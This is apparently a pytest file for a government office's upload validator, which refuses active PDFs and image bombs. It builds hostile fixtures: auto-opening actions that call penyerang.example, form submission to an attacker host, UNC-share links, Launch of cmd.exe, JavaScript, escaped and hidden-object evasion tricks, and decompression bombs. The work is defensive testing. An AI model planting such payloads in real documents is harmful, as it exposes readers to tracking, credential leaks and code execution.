"""Scans are judged by their content: cleaned when good, refused with a reason when not."""

import io
import random
import time
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image, ImageFile
from pypdf import PdfReader
from weasyprint import HTML

from layanan.demo import FRASA_TTD_DEMO
from layanan.loket import unggahan
from layanan.loket.unggahan import PESAN_PDF_AKTIF, periksa_unggahan
from layanan.models import Pejabat
from layanan.surat.tanda_tangan.lokal import PenandaLokal
from tests import berkas_uji


def _unggah(nama: str, isi: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(nama, isi)


def test_png_is_accepted_and_reencoded():
    hasil = periksa_unggahan(_unggah("ktp.png", berkas_uji.png()))
    assert hasil.jenis_konten == "image/png"
    assert Image.open(io.BytesIO(hasil.isi)).size == (60, 40)


def test_phone_photo_loses_gps_and_appended_data():
    asli = berkas_uji.jpeg_dengan_gps()
    assert Image.open(io.BytesIO(asli)).getexif().get(0x8825)
    hasil = periksa_unggahan(_unggah("foto.jpg", asli))
    assert hasil.jenis_konten == "image/jpeg"
    assert b"<?php" not in hasil.isi
    assert not Image.open(io.BytesIO(hasil.isi)).getexif().get(0x8825)


def test_plain_pdf_is_accepted_unchanged():
    isi = berkas_uji.pdf()
    hasil = periksa_unggahan(_unggah("sktm.pdf", isi))
    assert (hasil.jenis_konten, hasil.isi) == ("application/pdf", isi)


@pytest.mark.parametrize(
    ("nama", "isi", "kode"),
    [
        ("sktm.pdf", berkas_uji.HTML_BERNAMA_PDF, "jenis"),
        ("logo.svg", berkas_uji.SVG, "jenis"),
        ("kosong.pdf", b"", "kosong"),
        ("besar.pdf", b"%PDF-1.4\n" + b"0" * (20 * 1024 * 1024), "terlalu_besar"),
        ("potong.jpg", berkas_uji.jpeg_dengan_gps()[:300], "rusak"),
        ("js.pdf", berkas_uji.pdf("javascript"), "pdf_aktif"),
        ("launch.pdf", berkas_uji.pdf("launch"), "pdf_aktif"),
        ("lampiran.pdf", berkas_uji.pdf("embedded"), "pdf_aktif"),
        ("rusak.pdf", b"%PDF-1.4\nsampah tanpa struktur", "rusak"),
        ("png-palsu.jpg", b"\xff\xd8\xff" + b"bukan gambar", "rusak"),
    ],
)
def test_bad_files_are_refused_with_a_reason(nama, isi, kode):
    with pytest.raises(ValidationError) as info:
        periksa_unggahan(_unggah(nama, isi))
    assert info.value.code == kode
    assert info.value.messages[0]  # an Indonesian sentence, checked in the view tests


# ---------------------------------------------------------------------------
# Active PDF content: every action a scan has no reason to carry, however it is hidden
# ---------------------------------------------------------------------------
def _katalog(tambahan: bytes) -> bytes:
    return b"<< /Type /Catalog /Pages 2 0 R " + tambahan + b" >>"


def _halaman(tambahan: bytes) -> bytes:
    return b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + tambahan + b" >>"


def _tautan(aksi: bytes) -> bytes:
    """A page with one link annotation whose click runs `aksi`."""
    return _halaman(
        b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A " + aksi + b" >>]"
    )


def _buka(aksi: bytes) -> bytes:
    return berkas_uji.pdf_mentah(berkas_uji.objek_dasar(katalog=_katalog(b"/OpenAction " + aksi)))


URI_SERANG = b"<< /S /URI /URI (https://penyerang.example/lacak) >>"
UNC = rb"(\\\\\\\\10.0.0.9\\\\share\\\\a.pdf)"  # \\10.0.0.9\share\a.pdf in a PDF string
XFA = (
    b'<< /Length 93 >>\nstream\n<xdp:xdp><template><subform><event activity="initialize">'
    b"<script>app.alert(1)</script></event></subform></template></xdp:xdp>\nendstream"
)

PDF_AKTIF = {
    # What the audit listed: a script, and actions on open or in /AA.
    "openaction-javascript": (_buka(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), "skrip"),
    "xfa-script": (
        berkas_uji.pdf_mentah(
            berkas_uji.objek_dasar(
                katalog=_katalog(b"/AcroForm << /Fields [] /XFA 4 0 R >>"), o4=XFA
            )
        ),
        "skrip",
    ),
    "openaction-uri": (_buka(URI_SERANG), "otomatis"),
    "openaction-submitform": (
        _buka(b"<< /S /SubmitForm /F << /FS /URL /F (https://penyerang.example) >> >>"),
        "otomatis",
    ),
    "openaction-gotor-unc": (_buka(b"<< /S /GoToR /F " + UNC + b" /D [0 /Fit] >>"), "otomatis"),
    "openaction-launch": (_buka(b"<< /S /Launch /F (cmd.exe) >>"), "otomatis"),
    "openaction-importdata": (_buka(b"<< /S /ImportData /F (data.fdf) >>"), "otomatis"),
    "openaction-named-print": (_buka(b"<< /S /Named /N /Print >>"), "otomatis"),
    "aa-page-uri": (
        berkas_uji.pdf_mentah(
            berkas_uji.objek_dasar(halaman=_halaman(b"/AA << /O " + URI_SERANG + b" >>"))
        ),
        "otomatis",
    ),
    "aa-catalog-gotor": (
        berkas_uji.pdf_mentah(
            berkas_uji.objek_dasar(
                katalog=_katalog(b"/AA << /WC << /S /GoToR /F " + UNC + b" /D [0 /Fit] >> >>")
            )
        ),
        "otomatis",
    ),
    # A harmless jump on open that chains into a web request.
    "openaction-goto-next-uri": (
        _buka(b"<< /S /GoTo /D [3 0 R /Fit] /Next [" + URI_SERANG + b"] >>"),
        "otomatis",
    ),
    # A button that sends the form, a link that reaches a share or starts something.
    "widget-submitform": (
        berkas_uji.pdf_mentah(
            berkas_uji.objek_dasar(
                halaman=_halaman(
                    b"/Annots [<< /Type /Annot /Subtype /Widget /FT /Btn /Rect [0 0 9 9] "
                    b"/A << /S /SubmitForm /F << /FS /URL /F (https://x.example) >> >> >>]"
                )
            )
        ),
        "tindakan",
    ),
    "link-gotor-unc": (
        berkas_uji.pdf_mentah(
            berkas_uji.objek_dasar(halaman=_tautan(b"<< /S /GoToR /F " + UNC + b" /D [0 /Fit] >>"))
        ),
        "tindakan",
    ),
    "link-uri-unc": (
        berkas_uji.pdf_mentah(
            berkas_uji.objek_dasar(halaman=_tautan(b"<< /S /URI /URI " + UNC + b" >>"))
        ),
        "tindakan",
    ),
    "link-uri-file": (
        berkas_uji.pdf_mentah(
            berkas_uji.objek_dasar(
                halaman=_tautan(b"<< /S /URI /URI (file://10.0.0.9/share/a.pdf) >>")
            )
        ),
        "tindakan",
    ),
    "link-uri-javascript-with-blank": (
        berkas_uji.pdf_mentah(
            berkas_uji.objek_dasar(
                halaman=_tautan(b"<< /S /URI /URI ( javascript:alert\\(1\\)) >>")
            )
        ),
        "tindakan",
    ),
    "link-uri-then-launch": (
        berkas_uji.pdf_mentah(
            berkas_uji.objek_dasar(
                halaman=_tautan(
                    b"<< /S /URI /URI (https://x.example) /Next << /S /Launch /F (a.exe) >> >>"
                )
            )
        ),
        "tindakan",
    ),
    **{
        f"link-{jenis.lower()}": (
            berkas_uji.pdf_mentah(
                berkas_uji.objek_dasar(halaman=_tautan(b"<< /S /" + jenis.encode() + b" >>"))
            ),
            "tindakan",
        )
        for jenis in ("GoToE", "Rendition", "Sound", "Movie", "Hide", "SetOCGState", "Launch")
    },
    # The same, with names escaped as PDF allows (#xx is the byte xx).
    "escaped-javascript": (_buka(b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"), "skrip"),
    "escaped-openaction": (
        berkas_uji.pdf_mentah(
            berkas_uji.objek_dasar(katalog=_katalog(b"/Open#41ction " + URI_SERANG))
        ),
        "otomatis",
    ),
    "escaped-aa": (
        berkas_uji.pdf_mentah(
            berkas_uji.objek_dasar(halaman=_halaman(b"/#41#41 << /O " + URI_SERANG + b" >>"))
        ),
        "otomatis",
    ),
    "escaped-gotor-in-link": (
        berkas_uji.pdf_mentah(
            berkas_uji.objek_dasar(halaman=_tautan(b"<< /S /Go#54o#52 /F " + UNC + b" >>"))
        ),
        "tindakan",
    ),
    "escaped-xfa": (
        berkas_uji.pdf_mentah(
            berkas_uji.objek_dasar(
                katalog=_katalog(b"/AcroForm << /Fields [] /#58FA 4 0 R >>"), o4=XFA
            )
        ),
        "skrip",
    ),
    # Deeper: an indirect action object, a compressed object stream, an orphan object.
    "indirect-openaction": (
        berkas_uji.pdf_mentah(
            berkas_uji.objek_dasar(katalog=_katalog(b"/OpenAction 4 0 R"), o4=URI_SERANG)
        ),
        "otomatis",
    ),
    "object-stream": (
        berkas_uji.pdf_mentah(
            berkas_uji.objek_dasar(katalog=_katalog(b"/OpenAction " + URI_SERANG)), objstm="flate"
        ),
        "otomatis",
    ),
    # Referenced by nothing, hex-encoded in an object stream: only the cross-reference lists it.
    "unreferenced-object-in-xref": (
        berkas_uji.pdf_mentah(
            berkas_uji.objek_dasar(o4=b"<< /S /Launch /F (a.exe) >>"), objstm="hex"
        ),
        "tindakan",
    ),
    "orphan-object-not-in-xref": (
        berkas_uji.pdf_mentah(
            berkas_uji.objek_dasar(),
            sisipan=b"9 0 obj\n<< /S /J#61vaScript /JS (app.alert\\(1\\)) >>\nendobj\n",
        ),
        "skrip",
    ),
    "orphan-object-stream-not-in-xref": (
        berkas_uji.pdf_mentah(
            berkas_uji.objek_dasar(),
            sisipan=b"9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n"
            + zlib.compress(b"8 0 << /S /Launch /F (a.exe) >>")
            + b"\nendstream\nendobj\n",
        ),
        "tindakan",
    ),
    # Incremental updates: the last revision adds the action, or hides an earlier one that a
    # reader showing "the signed version" would still run.
    "update-adds-openaction": (
        berkas_uji.pdf_mentah(
            berkas_uji.objek_dasar(),
            {1: _katalog(b"/OpenAction " + URI_SERANG)},
        ),
        "otomatis",
    ),
    "update-hides-earlier-openaction": (
        berkas_uji.pdf_mentah(
            berkas_uji.objek_dasar(katalog=_katalog(b"/OpenAction " + URI_SERANG)),
            {1: berkas_uji.KATALOG},
        ),
        "otomatis",
    ),
    "update-hides-earlier-compressed-openaction": (
        berkas_uji.pdf_mentah(
            berkas_uji.objek_dasar(katalog=_katalog(b"/OpenAction " + URI_SERANG)),
            {1: berkas_uji.KATALOG},
            objstm="flate",
        ),
        "otomatis",
    ),
}


@pytest.mark.parametrize(("isi", "alasan"), PDF_AKTIF.values(), ids=PDF_AKTIF.keys())
def test_pdf_with_active_or_automatic_content_is_refused(isi, alasan):
    assert PdfReader(io.BytesIO(isi)).pages[0]  # a PDF a reader opens
    with pytest.raises(ValidationError) as info:
        periksa_unggahan(_unggah("sktm.pdf", isi))
    assert info.value.code == "pdf_aktif"
    assert info.value.params == {"alasan": alasan}
    assert info.value.messages == [str(PESAN_PDF_AKTIF[alasan])]


@pytest.mark.parametrize(
    ("alasan", "kata"),
    [
        ("skrip", "skrip (JavaScript atau formulir XFA)"),
        ("otomatis", "dengan sendirinya"),
        ("tindakan", "folder jaringan"),
        ("lampiran", "berkas sisipan"),
    ],
)
def test_refusal_says_why_in_indonesian(alasan, kata):
    assert kata in str(PESAN_PDF_AKTIF[alasan])
    assert "Cetak ulang ke PDF baru" in str(PESAN_PDF_AKTIF[alasan])


def _halaman_tautan_web() -> bytes:
    """A letter as Word or WeasyPrint writes it: the office's website and e-mail are links."""
    return HTML(
        string='<p>Kelurahan Sananwetan, <a href="https://sananwetan.blitarkota.go.id/">'
        'sananwetan.blitarkota.go.id</a>, <a href="mailto:sananwetan@blitarkota.go.id">surel</a>'
        '</p><p><a href="#bawah">ke bawah</a></p><p id="bawah">Lurah</p>'
    ).write_pdf()


def _pindaian_pillow() -> bytes:
    """Two scanned pages as an image-to-PDF tool writes them."""
    keluar = io.BytesIO()
    halaman = [Image.new("RGB", (850, 1100), (250, 250, 245)) for _i in range(2)]
    halaman[0].save(keluar, "PDF", resolution=100, save_all=True, append_images=halaman[1:])
    return keluar.getvalue()


PDF_BIASA = {
    "image-pages": _pindaian_pillow,
    "web-and-mail-links": _halaman_tautan_web,
    "open-at-first-page": lambda: _buka(b"[3 0 R /Fit]"),
    "open-with-goto": lambda: _buka(b"<< /S /GoTo /D [3 0 R /XYZ null null 0] >>"),
    "page-transition": lambda: berkas_uji.pdf_mentah(
        berkas_uji.objek_dasar(halaman=_halaman(b"/Trans << /S /Dissolve /D 1 >>"))
    ),
    "object-stream": lambda: berkas_uji.pdf_mentah(berkas_uji.objek_dasar(), objstm="flate"),
    "incremental-update": lambda: berkas_uji.pdf_mentah(
        berkas_uji.objek_dasar(), {3: _halaman(b"/Rotate 90")}
    ),
    # Names of forbidden things inside text, and tagged structure whose /S is a role.
    "forbidden-words-in-strings": lambda: berkas_uji.pdf_mentah(
        berkas_uji.objek_dasar(
            katalog=_katalog(b"/StructTreeRoot 4 0 R"),
            o4=b"<< /Type /StructTreeRoot /K << /S /P /Alt (lihat /JS /AA \\) /Launch) >> >>",
        )
    ),
}


@pytest.mark.parametrize("buat", PDF_BIASA.values(), ids=PDF_BIASA.keys())
def test_pdf_as_scanners_and_office_software_write_it_is_accepted(buat):
    isi = buat()
    assert periksa_unggahan(_unggah("sktm.pdf", isi)).isi == isi


@pytest.mark.django_db
def test_letter_signed_by_the_office_is_accepted():
    """A citizen may upload the signed letter itself: an incremental update with a signature."""
    kadin = Pejabat.objects.get(kantor__kode="blitar", peran__kode="kadin")
    surat = PenandaLokal().tandatangani(
        _halaman_tautan_web(), pejabat=kadin, frasa_sandi=FRASA_TTD_DEMO
    )
    assert surat.count(b"%%EOF") >= 2
    assert periksa_unggahan(_unggah("surat.pdf", surat)).isi == surat


@pytest.mark.parametrize(
    "isi",
    [
        berkas_uji.pdf_mentah(berkas_uji.objek_dasar(), *[{3: berkas_uji.HALAMAN}] * 25),
        berkas_uji.pdf_mentah(
            berkas_uji.objek_dasar(**{f"o{n}": b"<< /N %d >>" % n for n in range(4, 60_000)})
        ),
    ],
    ids=["25-revisions", "60000-objects"],
)
def test_pdf_too_big_to_check_is_refused_before_it_is_walked(isi, monkeypatch):
    def jalan(pdf):
        raise AssertionError("walked")

    monkeypatch.setattr(unggahan, "_alasan_pdf_terstruktur", jalan)
    with pytest.raises(ValidationError) as info:
        periksa_unggahan(_unggah("sktm.pdf", isi))
    assert info.value.code == "pdf_rumit"


# ---------------------------------------------------------------------------
# Image decompression bombs: refused from the header, before any decoding
# ---------------------------------------------------------------------------
def _ditolak_cepat(isi: bytes) -> ValidationError:
    mulai = time.perf_counter()
    with pytest.raises(ValidationError) as info:
        periksa_unggahan(_unggah("ktp.png", isi))
    assert time.perf_counter() - mulai < 0.5  # decoding the audit's PNG took 4.7 s and ~0.9 GB
    return info.value


def test_png_bomb_is_refused_fast_from_its_header():
    bom = berkas_uji.png_bom(10_950, 10_950)  # the audit's 120 Mpx, here in a few KB
    assert len(bom) < 500_000
    with pytest.warns(Image.DecompressionBombWarning):  # Pillow itself only warns
        assert Image.open(io.BytesIO(bom)).size == (10_950, 10_950)
    galat = _ditolak_cepat(bom)
    assert galat.code == "piksel"
    assert galat.messages == [
        "Gambar terlalu besar: lebih dari 40.000.000 piksel (lebar × tinggi). Pindai ulang "
        "dengan resolusi lebih rendah (300 dpi sudah cukup) lalu coba lagi."
    ]


def test_the_pixel_limit_is_a_setting(settings):
    assert settings.DINSOS_MAKS_PIKSEL_GAMBAR == 40_000_000  # default: an A3 page at 300 dpi is 17
    settings.DINSOS_MAKS_PIKSEL_GAMBAR = 60 * 40
    assert periksa_unggahan(_unggah("ktp.png", berkas_uji.png((60, 40))))
    galat = _ditolak_cepat(berkas_uji.png((61, 40)))
    assert galat.code == "piksel"
    assert "lebih dari 2.400 piksel" in galat.messages[0]


def test_pillow_bomb_warning_is_a_refusal_whatever_the_setting(settings):
    """Above Pillow's own limit (89 Mpx) its warning is an error, even if the setting is higher."""
    settings.DINSOS_MAKS_PIKSEL_GAMBAR = 10**12
    assert _ditolak_cepat(berkas_uji.png_bom(10_000, 10_000)).code == "piksel"


def test_jpeg_claiming_huge_dimensions_is_refused_fast():
    assert _ditolak_cepat(berkas_uji.jpeg_raksasa()).code == "piksel"


@pytest.mark.parametrize("format_", ["JPEG", "PNG"])
def test_image_cut_off_during_upload_is_refused_even_after_weasyprint_loosened_pillow(format_):
    """WeasyPrint (imported above, as in the app) sets ImageFile.LOAD_TRUNCATED_IMAGES."""
    keluar = io.BytesIO()
    Image.frombytes("RGB", (200, 150), random.Random(1).randbytes(200 * 150 * 3)).save(
        keluar, format_
    )
    isi = keluar.getvalue()
    with pytest.raises(ValidationError) as info:
        periksa_unggahan(_unggah("ktp", isi[: len(isi) // 2]))
    assert info.value.code == "rusak"
    assert ImageFile.LOAD_TRUNCATED_IMAGES is True  # left as WeasyPrint wants it


def test_png_with_a_text_chunk_bomb_is_damaged_not_a_crash():
    bom_teks = berkas_uji.potongan_png(b"zTXt", b"k\x00\x00" + zlib.compress(b"a" * 20_000_000))
    assert _ditolak_cepat(berkas_uji.png_bom(60, 40, sisipan=bom_teks)).code == "rusak"
